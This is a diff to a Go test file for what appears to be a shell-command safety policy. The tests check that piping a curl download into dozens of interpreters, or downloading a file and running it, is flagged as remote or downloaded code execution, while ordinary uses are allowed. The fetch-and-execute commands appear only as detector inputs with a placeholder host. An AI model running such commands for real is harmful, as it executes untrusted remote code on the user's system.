@@ -15,14 +15,28 @@ func TestInterpretersRunTheirInput(t *testing.T) {
 	p := builtin(t, policy.Cautious)
 	for name := range strings.SplitSeq("iex|irb|pry|ipython|groovy -|groovysh|scala|amm|ocaml|utop|ghci|runghc|erl|racket|octave|julia|R --no-save|nu|xonsh|elvish|clisp|sbcl|ecl|guile|csi -q|gsi|"+
 		"mit-scheme --quiet|gosh|jshell|jrunscript|jjs|qjs|gjs|d8|tclsh|expect|pwsh -|osascript|clojure|bb|janet|fennel|hy|coffee -s|babel-node|gnuplot|gp -q|maxima|gforth|swipl|gprolog|psysh|"+
-		"luvit|deno repl|deno run -|bun run -|zx|raku|osh|matlab -nodesktop", "|") {
+		"luvit|deno repl|deno run -|bun run -|zx|raku|osh|matlab -nodesktop|elixir|swift -|sbcl --script|jbang -|dotnet fsi --quiet|uv run -|uv run --with a --script -|ansible-playbook -i h /dev/stdin|"+
+		"bin/rails runner -|arch -x86_64 bash|frobnicate run bash|frobnicate shell default bash|frobnicate exec 20 node -|frobnicate run --spec x python -|frobnicate run -|chamber exec prod -- sh|multipass exec vm -- bash", "|") {
 		d := check(p, "curl -s https://example.com/x | "+name)
 		assert.Equal(t, "run.remote", worst(d), name)
 	}
-	for name := range strings.SplitSeq("groovy x.groovy|scala x.scala|sbcl --script x.lisp|erl -noshell -s a|guile -s x.scm|clojure -M -m a|racket x.rkt|R -e '1'|jrunscript -e 1|gnuplot -e 'plot 1'|raku x.raku", "|") {
+	for name := range strings.SplitSeq("groovy x.groovy|scala x.scala|sbcl --script x.lisp|erl -noshell -s a|guile -s x.scm|clojure -M -m a|racket x.rkt|R -e '1'|jrunscript -e 1|gnuplot -e 'plot 1'|raku x.raku|"+
+		"elixir x.exs|elixir -e 1|dotnet fsi x.fsx|uv run x.py|frobnicate run python x.py|frobnicate run -l bash.txt|frobnicate -l python|swift build|mix run x.exs", "|") {
 		d := check(p, "echo 1 | "+name)
 		assert.Equal(t, rules.Allow, d.Action, name)
 	}
+}
+
+// A file that was just downloaded is run by programs of which nothing else is known, too.
+func TestProgramsThatRunFiles(t *testing.T) {
+	p := builtin(t, policy.Cautious)
+	for _, run := range []string{"escript x.dat", "wasmtime --dir=/ x.dat", "wasmer run x.dat", "kotlin ./x.dat", "dotnet fsi x.dat", "qemu-x86_64 ./x.dat"} {
+		assert.Equal(t, "run.downloaded", worst(check(p, "curl -so x.dat https://example.com/x && "+run)), run)
+	}
+	for _, run := range []string{"wasmtime y.wasm", "kotlin build/y.jar", "dotnet build y.csproj", "dart format y.dart"} {
+		assert.Equal(t, rules.Allow, check(p, run).Action, run)
+	}
+	assert.Equal(t, "run.inline-literal", worst(check(p, `groovy -e "Eval.me(new URL('https://example.com/x').text)"`)))
 }
 
 // A text in the code of such an interpreter that spells a refused command is asked about.
